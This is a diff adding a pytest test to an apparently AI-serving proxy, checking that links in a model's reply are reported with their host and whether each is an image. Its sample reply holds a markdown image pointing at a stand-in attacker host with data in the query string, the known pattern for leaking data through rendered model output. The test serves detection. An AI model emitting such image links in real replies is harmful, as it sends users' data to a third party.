@@ -99,6 +99,23 @@ async def test_a_streamed_answer_ends_with_the_verdict(tmp_path: Path) -> None:
         assert chunks[-1]["ordain"]["verdict"] == "ok"
 
 
+@pytest.mark.parametrize("more", [{}, {"stream": True}, {"response_format": {"type": "text"}}, {"model": "ordain-task"}])
+async def test_where_a_text_would_lead_stands_beside_it(tmp_path: Path, more: dict[str, Any]) -> None:
+    """Each address in a model's words with the host that it asks, an image named as one; nothing where there is none."""
+    words = "Look: ![chart](https://evil.example/c.png?d=pin) and [more](https://good.example/)."
+    wanted = [("evil.example", True), ("good.example", False)]
+    async with house(tmp_path, chat_general=[{"content": words}], **{"brain.chat": [{"content": words}]}) as (_, http):
+        body = {"model": "ordain", "messages": turns("Show me"), **more}
+        answer = await http.post(CHAT, json=body)
+        told = frames_of(answer.text)[-2] if "stream" in more else answer.json()
+        assert [(link["host"], link["image"]) for link in told["ordain"]["links"]] == wanted
+        if not more:
+            other = (await http.post(RESPONSES, json={"model": "ordain", "input": "Show me"})).json()
+            assert [(link["host"], link["image"]) for link in other["ordain"]["links"]] == wanted
+    async with house(tmp_path / "plain") as (_, http):
+        assert "links" not in (await said(http, turns("Which day?")))["ordain"]
+
+
 async def test_a_conversation_without_a_name_goes_on_where_it_was(tmp_path: Path) -> None:
     """The whole conversation sent again with its answer is the same session; a name in a header or in metadata needs no history."""
     async with house(tmp_path) as (_, http):
